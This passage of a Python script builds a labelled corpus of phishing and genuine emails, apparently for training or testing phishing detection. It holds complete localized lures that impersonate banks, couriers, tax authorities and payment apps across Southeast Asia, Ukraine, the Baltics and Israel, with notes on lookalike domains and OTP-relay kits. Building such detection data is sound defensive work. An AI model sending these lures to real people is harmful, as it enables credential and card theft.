    html=card("#00a950", "https://kplus-kbank-verify.com/img/kplus.png", "K PLUS", "ยืนยันตัวตนผู้ใช้งาน K PLUS",
              ["เรียน ลูกค้าธนาคารกสิกรไทย", "ตามประกาศธนาคารแห่งประเทศไทย ผู้ใช้งานแอปพลิเคชันธนาคารต้องยืนยันตัวตนด้วยข้อมูลบัตรประชาชน",
               "หากท่านไม่ดำเนินการภายใน <b>24 ชั่วโมง</b> บัญชี K PLUS ของท่านจะถูกระงับการใช้งานชั่วคราว"],
              ("ยืนยันตัวตน", "https://kplus-kbank-verify.com/th/verify"),
              "ธนาคารกสิกรไทย จำกัด (มหาชน) K-Contact Center 02-888-8888", lang="th"))

add(n="th-bangkokbank-googlesites", cat="phishing", kind="phish",
    d="Bangkok Bank 'Bualuang iBanking password expires' lure whose link goes to a page hosted on Google Sites (genuine Google hosting abused); sender is a freemail account.",
    frm=("Bangkok Bank", "bangkokbank.ibanking.th@gmail.com"), to=("Pimchanok Srisuk", "pimchanok.srisuk@gmail.com"),
    subj="Bualuang iBanking: รหัสผ่านของท่านจะหมดอายุ / Your password will expire", date="2023-06-28 18:40:12 +0700",
    src=GMAIL_SRC, dk=GMAIL_DK, mid="<CAF{b}@mail.gmail.com>", gm=True,
    text=("เรียน ลูกค้า\n\nรหัสผ่าน Bualuang iBanking ของท่านจะหมดอายุในวันที่ 30/06/2566 กรุณาเปลี่ยนรหัสผ่านเพื่อใช้งานต่อ\n\n"
          "Dear customer, your Bualuang iBanking password will expire on 30/06/2023. Please renew it to continue using the service.\n\n"
          "https://sites.google.com/view/bualuang-ibanking-renew/home\n\nธนาคารกรุงเทพ จำกัด (มหาชน) / Bangkok Bank PCL\n"))

add(n="th-kerry-address", cat="phishing", kind="phish",
    d="Thai Kerry Express 'incorrect address, redelivery fee 19 THB' lure from a spoofed-looking sender on a throwaway domain with SPF fail and no DKIM.",
    frm=("Kerry Express", "service@kerryexpress.co.th"), to=("", "nattapong.k@gmail.com"), mf="mailer@kex-th-delivery.cc",
    subj="Kerry Express: ที่อยู่จัดส่งไม่ถูกต้อง พัสดุ KEX2310448812", date="2023-10-17 13:12:26 +0700",
    src=("kex-th-delivery.cc", None, "27.124.45.210"), auth=("fail", "none", "fail"), pol="NONE",
    mid="<{h16}@kex-th-delivery.cc>",
    html=page('<div style="font-family:Tahoma;padding:16px;border-top:5px solid #ff6600"><b style="color:#ff6600;font-size:20px">KERRY EXPRESS</b><br><br>'
              'เรียนลูกค้า<br>พัสดุหมายเลข <b>KEX2310448812</b> ไม่สามารถจัดส่งได้เนื่องจากที่อยู่ไม่ครบถ้วน<br>'
              'กรุณาอัปเดตที่อยู่และชำระค่าจัดส่งใหม่ 19 บาท ภายในวันนี้<br><br>'
              '<a href="https://kex-th-delivery.cc/th/update?no=KEX2310448812">อัปเดตที่อยู่</a><br><br>Kerry Express (Thailand) PCL</div>', "th"))

add(n="th-m365-password-expiry", cat="phishing", kind="phish",
    d="Thai-language Microsoft 365 'password expires today' lure from a compromised Thai company mailbox (auth passes); link to a kit on a Cloudflare Workers subdomain.",
    frm=("ผู้ดูแลระบบ IT", "sales02@siamfreshfoods.co.th"), to=("Kanokwan Phrom", "kanokwan@chaophraya-trading.co.th"), rx="o365", reg="apc",
    subj="แจ้งเตือน: รหัสผ่าน Microsoft 365 ของคุณจะหมดอายุวันนี้", date="2025-05-13 08:21:38 +0700",
    src=("APC01-SG2-obe.outbound.protection.outlook.com", "mail-sgaapc01on2090.outbound.protection.outlook.com", "40.107.215.90"),
    dk=("siamfreshfoods.co.th", "selector1"), mid="<SEZPR06MB{H16}@SEZPR06MB5123.apcprd06.prod.outlook.com>",
    html=page('<div style="font-family:Segoe UI,Tahoma;font-size:14px;padding:20px">'
              '<p><b>Microsoft 365</b></p><p>รหัสผ่านสำหรับบัญชี kanokwan@chaophraya-trading.co.th จะหมดอายุในวันนี้</p>'
              '<p>เพื่อป้องกันการสูญหายของอีเมลและไฟล์ กรุณาคงรหัสผ่านเดิมไว้โดยคลิกด้านล่าง</p>'
              '<p><a href="https://m365-keep-password.kanok-th.workers.dev/?e=kanokwan@chaophraya-trading.co.th" style="background:#0078d4;color:#fff;padding:9px 18px;text-decoration:none">คงรหัสผ่านเดิม</a></p>'
              '<p style="color:#777;font-size:11px">Microsoft Corporation | One Microsoft Way, Redmond, WA</p></div>', "th", bg="#ffffff"))

# ===== Vietnam =====
add(n="vn-vietcombank-biometric", cat="phishing", kind="phish",
    d="Vietnamese Vietcombank 'update biometrics before the SBV deadline' lure (2024 campaign) from a lookalike domain; kit captures VCB Digibank login and OTP.",
    frm=("Vietcombank", "thongbao@vietcombank-sinhtrachoc.com"), to=("Nguyễn Văn Minh", "minh.nguyen91@gmail.com"),
    subj="Vietcombank: Cập nhật sinh trắc học trước ngày 01/07/2024", date="2024-06-20 08:09:33 +0700",
    src=("mail.vietcombank-sinhtrachoc.com", "static.vnpt-hcm.vn", "14.225.204.61"), dk=("vietcombank-sinhtrachoc.com", "default"),
    mid="<{h24}@vietcombank-sinhtrachoc.com>", alt=True,
    html=card("#006b3f", "https://vietcombank-sinhtrachoc.com/images/vcb.png", "Vietcombank", "Thông báo cập nhật sinh trắc học",
              ["Kính gửi Quý khách,", "Theo Quyết định 2345/QĐ-NHNN, từ ngày 01/07/2024 các giao dịch chuyển tiền trên 10 triệu đồng phải xác thực sinh trắc học.",
               "Tài khoản của Quý khách chưa được cập nhật. Vui lòng thực hiện ngay để tránh gián đoạn giao dịch."],
              ("Cập nhật ngay", "https://vietcombank-sinhtrachoc.com/vcb/cap-nhat"),
              "Ngân hàng TMCP Ngoại thương Việt Nam - Hotline 1900 54 54 13", lang="vi"))

add(n="vn-techcombank-callback", cat="phishing", kind="phish",
    d="Vietnamese Techcombank 'unusual transaction' notice with no link: the victim is told to call a hotline or contact a Zalo number, where the scammer asks for OTP.",
    frm=("Techcombank", "techcombank.hotro247@gmail.com"), to=("Trần Thị Lan", "lan.tran.hn@gmail.com"),
    subj="Techcombank: Phát hiện giao dịch bất thường trên tài khoản của Quý khách", date="2025-08-05 21:33:02 +0700",
    src=GMAIL_SRC, dk=GMAIL_DK, mid="<CAM{b}@mail.gmail.com>", gm=True,
    text=("Kính gửi Quý khách hàng,\n\nHệ thống phát hiện giao dịch chuyển khoản 18.500.000 VND từ tài khoản của Quý khách lúc 21:12 ngày 05/08/2025 tới tài khoản lạ.\n\n"
          "Nếu Quý khách KHÔNG thực hiện giao dịch này, vui lòng liên hệ ngay bộ phận hỗ trợ qua hotline 0868 512 447 hoặc Zalo cùng số để được hoàn tiền.\n\n"
          "Trân trọng,\nTechcombank\n"))

add(n="vn-etax-settlement", cat="phishing", kind="phish",
    d="Vietnamese tax-department 'personal income tax settlement' lure to an SME accountant linking to a fake eTax portal on a lookalike domain.",
    frm=("Tổng cục Thuế", "thongbao@thuedientu-gdt.com"), to=("Phạm Thu Hà", "ketoan@hoanglong-logistics.vn"), rx="o365", reg="apc",
    subj="Thông báo: Doanh nghiệp chưa hoàn thành quyết toán thuế TNCN năm 2024", date="2025-04-08 09:15:44 +0700",
    src=("mail.thuedientu-gdt.com", "103-97-125-88.vinahost.vn", "103.97.125.88"), dk=("thuedientu-gdt.com", "default"),
    mid="<{h24}@thuedientu-gdt.com>", alt=True,
    html=card("#a31f24", "", "TỔNG CỤC THUẾ", "Thông báo quyết toán thuế TNCN",
              ["Kính gửi Doanh nghiệp,", "Cơ quan thuế ghi nhận doanh nghiệp chưa nộp hồ sơ quyết toán thuế thu nhập cá nhân năm 2024. Hạn chót là ngày 10/04/2025.",
               "Vui lòng đăng nhập hệ thống thuế điện tử để kiểm tra và hoàn tất hồ sơ nhằm tránh bị xử phạt vi phạm hành chính."],
              ("Đăng nhập eTax", "https://thuedientu-gdt.com/tracuu/dang-nhap"), "Tổng cục Thuế - 123 Lò Đúc, Hà Nội", lang="vi"))

# ===== Indonesia =====
add(n="id-bca-tarif-transfer", cat="phishing", kind="phish",
    d="Indonesian BCA 'new transfer fee Rp150.000/month, choose the old tariff' lure (2023 campaign) from a lookalike domain linking to a kit that takes card number and PIN.",
    frm=("Halo BCA", "info@bca-perubahantarif.com"), to=("Budi Santoso", "budi.santoso88@gmail.com"),
    subj="Pemberitahuan Perubahan Tarif Transaksi BCA", date="2023-07-24 10:41:12 +0700",
    src=("mail.bca-perubahantarif.com", "ip-103-147-154-20.idcloudhost.com", "103.147.154.20"), dk=("bca-perubahantarif.com", "default"),
    mid="<{h24}@bca-perubahantarif.com>", alt=True,
    html=card("#005aab", "https://bca-perubahantarif.com/img/bca.png", "BCA", "Perubahan Tarif Transaksi",
              ["Nasabah Yth.,", "Mulai 1 Agustus 2023, BCA memberlakukan tarif transaksi baru sebesar <b>Rp150.000/bulan</b> untuk transaksi tanpa batas.",
               "Apabila Anda ingin tetap menggunakan tarif lama (Rp6.500/bulan), silakan konfirmasi melalui tautan di bawah ini. Tanpa konfirmasi, tarif baru otomatis berlaku."],
              ("Pilih Tarif", "https://bca-perubahantarif.com/tarif/konfirmasi"),
              "PT Bank Central Asia Tbk &middot; Halo BCA 1500888", lang="id"))

add(n="id-jnt-paket-tertahan", cat="phishing", kind="phish",
    d="Indonesian J&T Express 'parcel held, address incomplete' lure from a compromised Indonesian school mailbox (auth passes), linking to a kit on a .shop domain.",
    frm=("J&T Express", "tu@smkn4-semarang-mail.sch.id"), to=("", "siti.rahmawati@yahoo.co.id"), rx="mta5.am0.yahoodns.net",
    subj="J&T Express: Paket JP8420117563 tertahan di gudang", date="2024-09-09 15:02:55 +0700",
    src=("mail.smkn4-semarang-mail.sch.id", "host-36-94-12-51.jogjamedianet.id", "36.94.12.51"), dk=("smkn4-semarang-mail.sch.id", "default"),
    mid="<{h32}@smkn4-semarang-mail.sch.id>", xh=["User-Agent: Roundcube Webmail/1.5.3"],
    text=("J&T Express\n\nPelanggan Yth,\n\nPaket Anda dengan nomor resi JP8420117563 tertahan di gudang Semarang karena alamat tidak lengkap.\n\n"
          "Silakan perbarui alamat dan bayar biaya pengiriman ulang Rp12.000 di:\nhttps://jnt-express-id.shop/resi/JP8420117563\n\n"
          "Paket akan dikembalikan ke pengirim jika tidak diperbarui dalam 2x24 jam.\n\nJ&T Express Indonesia\n"))

add(n="id-djp-spt-tahunan", cat="phishing", kind="phish",
    d="Indonesian DJP Online 'annual SPT report rejected, re-verify your EFIN' lure from a lookalike domain harvesting NPWP, EFIN and password.",
    frm=("DJP Online", "no-reply@djponline-pajak.com"), to=("Dewi Lestari", "dewi.lestari@sinarmakmur.co.id"), rx="o365", reg="apc",
    subj="SPT Tahunan Anda ditolak - Verifikasi ulang EFIN", date="2024-03-26 13:30:07 +0700",
    src=("mail.djponline-pajak.com", "vps-jkt-22.rumahweb.net", "103.28.53.118"), dk=("djponline-pajak.com", "mail"),
    mid="<{h24}@djponline-pajak.com>", alt=True,
    html=card("#f6a800", "", "DJP ONLINE", "SPT Tahunan Ditolak",
              ["Wajib Pajak Yth.,", "SPT Tahunan PPh Orang Pribadi Tahun Pajak 2023 yang Anda sampaikan <b>ditolak</b> karena data EFIN tidak valid.",
               "Silakan lakukan verifikasi ulang EFIN sebelum 31 Maret 2024 agar tidak dikenakan denda keterlambatan Rp100.000."],
              ("Verifikasi EFIN", "https://djponline-pajak.com/efin/verifikasi"),
              "Direktorat Jenderal Pajak &middot; Kring Pajak 1500200", lang="id"))

# ===== Philippines =====
add(n="ph-gcash-verify", cat="phishing", kind="phish",
    d="Taglish GCash 'account limited, verify to avoid deactivation' lure from a lookalike domain; kit takes mobile number, MPIN and OTP.",
    frm=("GCash", "support@gcash-verify-ph.com"), to=("Maria Santos", "maria.santos1990@gmail.com"),
    subj="GCash: Your account has been limited - verify now", date="2024-10-30 11:05:22 +0800",
    src=("mail.gcash-verify-ph.com", "mail.gcash-verify-ph.com", "172.86.97.33"), dk=("gcash-verify-ph.com", "default"),
    mid="<{h16}.{h8}@gcash-verify-ph.com>", alt=True,
    html=card("#007dfe", "https://gcash-verify-ph.com/assets/gcash.png", "GCash", "Your account has been limited",
              ["Hi Maria,", "Na-limit ang iyong GCash account dahil sa incomplete verification. Hindi ka makakapag-Send Money, Cash In o Pay Bills hanggang ma-verify ang account mo.",
               "Please verify within 24 hours to avoid permanent deactivation."],
              ("Verify Now", "https://gcash-verify-ph.com/verify"), "G-Xchange, Inc. &middot; GCash Help Center: help.gcash.com"))

add(n="ph-bir-pdf-link", cat="phishing", kind="phish",
    d="BIR 'Letter of Authority / tax audit' with a PDF whose button links to a OneDrive-styled credential page; sent from a lookalike gov-ph domain.",
    frm=("Bureau of Internal Revenue", "loa-notice@bir-gov-ph.com"), to=("Jose Reyes", "accounting@reyes-hardware.com.ph"), rx="o365", reg="apc",
    subj="BIR Letter of Authority No. eLA201500088741 - Tax Audit 2023", date="2024-08-06 10:44:19 +0800",
    src=("mail.bir-gov-ph.com", "server.bir-gov-ph.com", "45.88.186.30"), dk=("bir-gov-ph.com", "default"),
    mid="<{h24}@bir-gov-ph.com>",
    text=("Good day,\n\nPlease see attached the electronic Letter of Authority (eLA) for the examination of your books of accounts for taxable year 2023.\n\n"
          "You are required to present the documents listed in the attached letter within ten (10) days.\n\n"
          "Revenue District Office No. 049 - North Makati\nBureau of Internal Revenue\n"),
    att=[pdf_att("eLA201500088741.pdf", ["Republic of the Philippines", "Department of Finance", "BUREAU OF INTERNAL REVENUE", "",
                                          "LETTER OF AUTHORITY No. eLA201500088741", "", "The document is protected.",
                                          "Click REVIEW DOCUMENT and sign in with your email to view."],
                 ("https://bir-eservices-docs.com/onedrive/view?doc=eLA201500088741", (56, 560, 300, 600)), "eLA")])

# ===== Malaysia =====
add(n="my-maybank-tac", cat="phishing", kind="phish",
    d="Malay Maybank2u 'Secure2u not activated, account will be suspended' lure from a lookalike domain; kit captures username, password and TAC.",
    frm=("Maybank2u", "notifikasi@maybank2u-secure.com"), to=("Nurul Aina", "nurul.aina92@gmail.com"),
    subj="Maybank2u: Akaun anda akan digantung - aktifkan Secure2u", date="2024-02-13 09:52:01 +0800",
    src=("mail.maybank2u-secure.com", "ip-103-6-198-44.exabytes.my", "103.6.198.44"), dk=("maybank2u-secure.com", "default"),
    mid="<{h24}@maybank2u-secure.com>", alt=True,
    html=card("#ffc83d", "https://maybank2u-secure.com/img/m2u.png", "Maybank2u", "Pengaktifan Secure2u diperlukan",
              ["Pelanggan yang dihormati,", "Mengikut arahan Bank Negara Malaysia, semua pengguna Maybank2u mesti mengaktifkan Secure2u. Akaun anda belum diaktifkan.",
               "Akaun anda akan <b>digantung</b> dalam masa 24 jam jika tiada tindakan diambil."],
              ("Aktifkan Sekarang", "https://maybank2u-secure.com/m2u/secure2u"),
              "Malayan Banking Berhad (3813-K) &middot; Maybank Group Customer Care 1-300-88-6688", lang="ms"))

add(n="my-lhdn-bayaran-balik", cat="phishing", kind="phish",
    d="Malay LHDN 'income tax refund' lure sent from a compromised Malaysian company mailbox (auth passes) to an SME; link to a MyTax lookalike.",
    frm=("LHDNM - MyTax", "admin@kedaiperabot-jaya.com.my"), to=("Ahmad Faizal", "faizal@mutiara-engineering.com.my"), rx="o365", reg="apc",
    subj="LHDNM: Bayaran balik cukai pendapatan anda RM 2,318.00", date="2024-05-21 14:26:55 +0800",
    src=("mail.kedaiperabot-jaya.com.my", "server88.shinjiru.com.my", "110.4.45.171"), dk=("kedaiperabot-jaya.com.my", "default"),
    mid="<{h32}@kedaiperabot-jaya.com.my>", xh=["User-Agent: Roundcube Webmail/1.6.6"],
    text=("Lembaga Hasil Dalam Negeri Malaysia\n\nTuan/Puan,\n\nBayaran balik cukai pendapatan bagi Tahun Taksiran 2023 sebanyak RM 2,318.00 telah diluluskan.\n\n"
          "Sila sahkan maklumat akaun bank anda di MyTax untuk menerima bayaran:\nhttps://mytax-hasil-gov.com/bayaranbalik\n\nHasil Care Line: 03-8911 1000\n"))

# ===== Ukraine =====
add(n="ua-diia-vyplata", cat="phishing", kind="phish",
    d="Ukrainian 'Diia: receive the 6,500 UAH state payment' lure from a lookalike domain; kit asks for full card details including CVV.",
    frm=("Дія", "info@diia-vyplaty.com"), to=("Олена Коваленко", "olena.kovalenko@ukr.net"), rx="mx1.ukr.net",
    subj="Дія: Вам нараховано державну виплату 6500 грн", date="2023-04-11 12:08:34 +0300",
    src=("mail.diia-vyplaty.com", "vm-5541.hostkey.com", "5.39.221.48"), dk=("diia-vyplaty.com", "default"),
    mid="<{h24}@diia-vyplaty.com>", alt=True,
    html=card("#000000", "", "Дія", "Державна виплата 6500 грн",
              ["Шановна Олено!", "Вам нараховано одноразову державну допомогу в розмірі <b>6500 грн</b> за програмою «єПідтримка».",
               "Для отримання коштів підтвердіть дані картки, на яку буде зараховано виплату. Заявки приймаються до 15.04.2023."],
              ("Отримати виплату", "https://diia-vyplaty.com/epidtrymka/card"), "Міністерство цифрової трансформації України", lang="uk"))

add(n="ua-privat24-confirm", cat="phishing", kind="phish",
    d="Ukrainian Privat24 'confirm your login from a new device' lure with a spoofed privatbank.ua display and SPF fail/DMARC fail from an unrelated host.",
    frm=("Приват24", "privat24@privatbank.ua"), to=("Андрій Шевчук", "andriy.shevchuk@gmail.com"), mf="info@pb-secure24.online",
    subj="Приват24: вхід з нового пристрою. Підтвердіть операцію", date="2024-11-19 22:14:56 +0200",
    src=("pb-secure24.online", None, "193.142.59.120"), auth=("pass", "none", "fail"), pol="QUARANTINE",
    mid="<{h16}@pb-secure24.online>",
    html=page('<div style="max-width:560px;margin:auto;font-family:Arial;padding:18px"><div style="background:#8cc63f;color:#fff;padding:12px;font-size:20px"><b>Приват24</b></div>'
              '<p>Шановний клієнте!</p><p>Зафіксовано вхід до Приват24 з нового пристрою (Windows, Київ) о 22:03.</p>'
              '<p>Якщо це були не Ви, негайно заблокуйте доступ і підтвердіть свої дані:</p>'
              '<p><a href="https://pb-secure24.online/p24/confirm" style="background:#8cc63f;color:#fff;padding:10px 18px;text-decoration:none">Заблокувати доступ</a></p>'
              '<p style="font-size:11px;color:#888">АТ КБ «ПриватБанк», 3700</p></div>', "uk"))

add(n="ua-olx-delivery-payout", cat="phishing", kind="phish",
    d="Ukrainian OLX 'buyer paid for your item with OLX Delivery, receive the money' scam: seller is sent to a fake payout page asking for card details and balance.",
    frm=("OLX Доставка", "olx.dostavka.ua@gmail.com"), to=("Ірина Мельник", "iryna.melnyk87@gmail.com"),
    subj="OLX: Покупець оплатив ваш товар «Дитяча коляска Cybex»", date="2024-04-30 16:47:08 +0300",
    src=GMAIL_SRC, dk=GMAIL_DK, mid="<CAN{b}@mail.gmail.com>", gm=True,
    text=("Вітаємо, Ірино!\n\nПокупець оплатив ваш товар «Дитяча коляска Cybex Balios S» на суму 9 800 грн через сервіс OLX Доставка.\n\n"
          "Щоб отримати кошти на картку, перейдіть за посиланням та заповніть форму отримання:\nhttps://olx-ua.delivery-pay.site/obj/77418230\n\n"
          "Після отримання коштів передайте товар у відділення Нової пошти протягом 3 днів.\n\nКоманда OLX\n"))

add(n="ua-ukrnet-quota", cat="phishing", kind="phish",
    d="Ukrainian ukr.net webmail 'mailbox full, messages will be deleted' lure sent from a compromised ukr.net account (auth passes) to a credential page on a free host.",
    frm=("Служба підтримки FREEMAIL", "tetiana.boyko1975@ukr.net"), to=("", "serhiy.lysenko@ukr.net"), rx="mx1.ukr.net",
    subj="Ваша поштова скринька переповнена (98%)", date="2025-02-24 07:33:15 +0200",
    src=("frv197.fwdcdn.com", "frv197.fwdcdn.com", "212.42.77.197"), dk=("ukr.net", "ffe"),
    mid="<{ts}.{h8}.{h12}@frv197.fwdcdn.com>", xh=["X-Mailer: FREEMAIL"],
    text=("Шановний користувачу!\n\nВаша поштова скринька serhiy.lysenko@ukr.net заповнена на 98%. Нові листи не будуть доставлені, "
          "а старі листи буде видалено через 24 години.\n\nЩоб безкоштовно збільшити обсяг, підтвердіть свій обліковий запис:\n"
          "https://ukrnet-mail-storage.000webhostapp.com/login.php\n\nСлужба підтримки FREEMAIL\n"))

# ===== Baltics =====
add(n="lv-swedbank-smartid", cat="phishing", kind="phish",
    d="Latvian Swedbank 'Smart-ID certificate expiring, renew in the internet bank' lure from a lookalike domain; kit relays the Smart-ID login in real time.",
    frm=("Swedbank", "info@swedbank-lv-drosiba.com"), to=("Jānis Bērziņš", "janis.berzins@inbox.lv"), rx="mx1.inbox.lv",
    subj="Swedbank: Jūsu Smart-ID sertifikāts drīz beigsies", date="2024-01-23 10:22:47 +0200",
    src=("mail.swedbank-lv-drosiba.com", "vps-7321.hostinger.lt", "91.108.124.205"), dk=("swedbank-lv-drosiba.com", "default"),
    mid="<{h24}@swedbank-lv-drosiba.com>", alt=True,
    html=card("#ee7023", "", "Swedbank", "Smart-ID sertifikāta atjaunošana",
              ["Labdien!", "Jūsu Smart-ID sertifikāts beigsies 25.01.2024. Pēc šī datuma Jūs nevarēsiet pieslēgties internetbankai un apstiprināt maksājumus.",
               "Lūdzu, atjaunojiet sertifikātu, pieslēdzoties internetbankai."],
              ("Pieslēgties internetbankai", "https://swedbank-lv-drosiba.com/private/smartid"),
              "Swedbank AS, Balasta dambis 15, Rīga, LV-1048", lang="lv"))

add(n="ee-omniva-pakk", cat="phishing", kind="phish",
    d="Estonian Omniva 'parcel waiting, pay 1.99 EUR' lure from a .xyz domain with SPF softfail; card-capture kit.",
    frm=("Omniva", "teavitus@omniva-ee-pakk.xyz"), to=("", "kadri.tamm@hot.ee"), rx="mx1.hot.ee",
    subj="Omniva: Teie pakk CE482190375EE ootab tasumist", date="2023-11-28 12:30:05 +0200",
    src=("omniva-ee-pakk.xyz", None, "185.196.9.41"), auth=("softfail", "none", "none"),
    mid="<{h12}@omniva-ee-pakk.xyz>",
    text=("Omniva\n\nTere!\n\nTeie pakk CE482190375EE on saabunud, kuid tollitasu 1,99 EUR on tasumata.\n\n"
          "Tasuge ja valige pakiautomaat siin: https://omniva-ee-pakk.xyz/ee/maksa\n\nTasumata paki saadame 48 tunni pärast tagasi.\n\nOmniva klienditugi\n"))

add(n="lt-smartid-confirm", cat="phishing", kind="phish",
    d="Lithuanian 'Smart-ID: confirm your account to avoid suspension' lure from a lookalike domain; kit does a real-time Smart-ID push relay to hijack the bank login.",
    frm=("Smart-ID", "pagalba@smart-id-lt.com"), to=("Tomas Kazlauskas", "tomas.kazlauskas@gmail.com"),
    subj="Smart-ID: patvirtinkite savo paskyrą", date="2025-06-17 09:04:29 +0300",
    src=("mail.smart-id-lt.com", "mail.smart-id-lt.com", "45.150.108.77"), dk=("smart-id-lt.com", "s1"),
    mid="<{h24}@smart-id-lt.com>", alt=True,
    html=card("#2b2d7c", "", "Smart-ID", "Patvirtinkite savo paskyrą",
              ["Sveiki,", "Atnaujinome Smart-ID saugumo reikalavimus. Jūsų paskyra turi būti patvirtinta iki 2025-06-20, kitaip ji bus laikinai sustabdyta.",
               "Patvirtinimas užtrunka 2 minutes."], ("Patvirtinti", "https://smart-id-lt.com/lt/patvirtinti"), "SK ID Solutions AS", lang="lt"))

# ===== Israel (Hebrew) =====
add(n="il-leumi-blocked", cat="phishing", kind="phish",
    d="Hebrew Bank Leumi 'account blocked, identify yourself' lure from a lookalike domain; kit asks for ID number, password and SMS code.",
    frm=("בנק לאומי", "service@leumi-online-secure.com"), to=("יוסי כהן", "yossi.cohen@gmail.com"),
    subj="בנק לאומי: חשבונך נחסם זמנית - נדרש אימות", date="2024-07-15 08:17:33 +0300",
    src=("mail.leumi-online-secure.com", "mail.leumi-online-secure.com", "194.26.29.113"), dk=("leumi-online-secure.com", "default"),
    mid="<{h24}@leumi-online-secure.com>", alt=True,
    html=card("#004a9f", "", "לאומי", "חשבונך נחסם זמנית",
              ["לקוח יקר,", "זיהינו ניסיון כניסה חריג לחשבונך. לשמירה על ביטחונך, הגישה לחשבון נחסמה זמנית.",
               "לשחרור החסימה יש לבצע אימות זהות באמצעות הקישור הבא."], ("אימות זהות", "https://leumi-online-secure.com/he/verify"),
              "בנק לאומי לישראל בע\"מ", lang="he", rtl=True))

add(n="il-israelpost-customs", cat="phishing", kind="phish",
    d="Hebrew Israel Post 'parcel awaiting customs payment 9.90 ILS' lure from a compromised small-business Gmail-hosted domain (auth passes).",
    frm=("דואר ישראל", "office@dekel-optika.co.il"), to=("", "michal.levi@walla.co.il"), rx="mx.walla.co.il",
    subj="דואר ישראל: החבילה שלך RR284610374IL ממתינה לתשלום", date="2023-08-08 13:55:10 +0300",
    src=("mail-sor-f73.google.com", "mail-sor-f73.google.com", "209.85.220.73"), dk=("dekel-optika.co.il", "google"),
    mid="<CAG{b}@mail.gmail.com>", gm=True,
    text=("דואר ישראל\n\nשלום,\nהחבילה שלך RR284610374IL הגיעה למרכז המיון ומחכה לתשלום דמי מכס בסך 9.90 ₪.\n\n"
          "לתשלום ותיאום מסירה:\nhttps://israelpost-il.delivery/pay/RR284610374IL\n\nחבילה שלא תשולם תוך 48 שעות תוחזר לשולח.\n"))

add(n="il-taxauthority-refund", cat="phishing", kind="phish",
    d="Hebrew Israel Tax Authority 'you are entitled to a tax refund' lure from a lookalike gov-il domain; kit requests ID, bank and card details.",
    frm=("רשות המסים בישראל", "refund@taxes-gov-il.info"), to=("Avi Mizrahi", "avi@mizrahi-cpa.co.il"), rx="o365",
    subj="רשות המסים: הנך זכאי להחזר מס בסך 3,412 ₪", date="2025-03-03 11:41:20 +0200",
    src=("mail.taxes-gov-il.info", "srv4.vps-il.cloud", "185.241.5.150"), dk=("taxes-gov-il.info", "default"),
    mid="<{h24}@taxes-gov-il.info>", alt=True,
    html=card("#1f3f75", "", "רשות המסים בישראל", "החזר מס",
              ["שלום רב,", "על פי בדיקת המערכת הנך זכאי להחזר מס בסך <b>3,412 ₪</b> עבור שנת המס 2023.",
               "כדי לקבל את ההחזר יש לעדכן פרטי חשבון בנק עד 10/03/2025."], ("לקבלת ההחזר", "https://taxes-gov-il.info/refund"),
              "רשות המסים בישראל - משרד האוצר", lang="he", rtl=True))

add(n="il-bit-payment-request", cat="phishing", kind="phish",
    d="Hebrew 'Bit: you received 450 ILS, confirm to receive' lure from a Gmail sender linking to a kit on a .site domain that asks for card details.",
    frm=("ביט - Bit", "bit.payments.il@gmail.com"), to=("נועה שפירא", "noa.shapira@gmail.com"),
    subj="קיבלת 450 ₪ בביט - יש לאשר קבלה", date="2024-12-22 18:20:51 +0200",
    src=GMAIL_SRC, dk=GMAIL_DK, mid="<CAB{b}@mail.gmail.com>", gm=True,
    text=("היי נועה,\n\nדניאל אברהם שלח/ה לך 450 ₪ בביט.\n\nכדי לקבל את הכסף לחשבון יש לאשר את פרטי הכרטיס בקישור:\nhttps://bit-pay-il.site/r/8841\n\n"
          "הבקשה תפוג בעוד 24 שעות.\n\nצוות ביט\n"))

# ===== Legitimate =====
SFMC = lambda n, d: [f"X-SFMC-Stack: 50", f"X-Job: {int(H(n + 'job', 6), 16)}_{int(H(n + 'j2', 4), 16)}"] + foot_unsub(f"click.{d}", n)

add(n="za-fnb-incontact-payment", cat="bulk", kind="bulk",
    d="Genuine FNB inContact payment notification from fnb.co.za's own relay, DKIM/SPF/DMARC pass, no links beyond fnb.co.za.",
    frm=("FNB inContact", "inContact@fnb.co.za"), to=("Pieter van Wyk", "pieter.vanwyk@gmail.com"),
    subj="FNB :-) R2 350.00 paid from cheq a/c..818042 @ Online Banking", date="2024-08-30 12:04:51 +0200",
    src=("mailout3.fnb.co.za", "mailout3.fnb.co.za", "196.11.218.53"), dk=("fnb.co.za", "fnbsel1"), pol="REJECT",
    mid="<{H16}.{h8}@mailout3.fnb.co.za>",
    text=("FNB :-) R2 350.00 paid from cheq a/c..818042 @ Online Banking. Ref.Karoo Rent Aug. 30Aug 12:04\n\n"
          "This is an automated inContact message. Do not reply.\nFirst National Bank - a division of FirstRand Bank Limited. An Authorised Financial Services and Credit Provider (NCRCP20).\n"
          "To manage your notifications visit https://www.fnb.co.za\n"))

add(n="za-sars-efiling-noa", cat="bulk", kind="bulk",
    d="Genuine SARS eFiling notification that a Notice of Assessment is available; it asks the taxpayer to log in to eFiling themselves and contains no login link or bank request.",
    frm=("SARS eFiling", "eFiling@sars.gov.za"), to=("Thandi Mokoena", "thandi.mokoena82@gmail.com"),
    subj="SARS eFiling - Notice of Assessment available", date="2024-07-19 16:22:05 +0200",
    src=("smtp2.sars.gov.za", "smtp2.sars.gov.za", "196.4.139.36"), dk=("sars.gov.za", "sars"), pol="REJECT",
    mid="<{h12}.{ts}.JavaMail.efiling@sars.gov.za>",
    text=("Dear Taxpayer\n\nYour Notice of Assessment (ITA34) for the 2024 tax year is now available on eFiling.\n\n"
          "Reference number: 0182334517\n\nTo view it, log in to eFiling at www.sarsefiling.co.za or open the SARS MobiApp and go to SARS Correspondence.\n\n"
          "SARS will never ask for your banking details, PIN or password by email or SMS.\n\nSouth African Revenue Service\n"))

add(n="ph-gcash-express-send-receipt", cat="bulk", kind="bulk",
    d="Genuine GCash Express Send receipt from gcash.com through its ESP (SendGrid), DKIM aligned, tracking links to gcash.com help pages.",
    frm=("GCash", "no-reply@gcash.com"), to=("Maria Santos", "maria.santos1990@gmail.com"),
    subj="You have sent PHP 1,500.00 via GCash Express Send", date="2024-10-12 20:41:09 +0800",
    src=("o1.ptr7721.gcash.com", "o1.ptr7721.gcash.com", "149.72.188.41"), mf="bounces+2881742-0c1a-maria.santos1990=gmail.com@em7721.gcash.com",
    dk=("gcash.com", "s1"), pol="REJECT", mid="<{b}@geopod-ismtpd-3>", xh=["X-SG-EID: " + "u001." + "Q0FTSA" + "kP3mAN8yZk1"], alt=True,
    html=card("#007dfe", "https://www.gcash.com/wp-content/uploads/2019/04/gcash-logo.png", "GCash", "Express Send receipt",
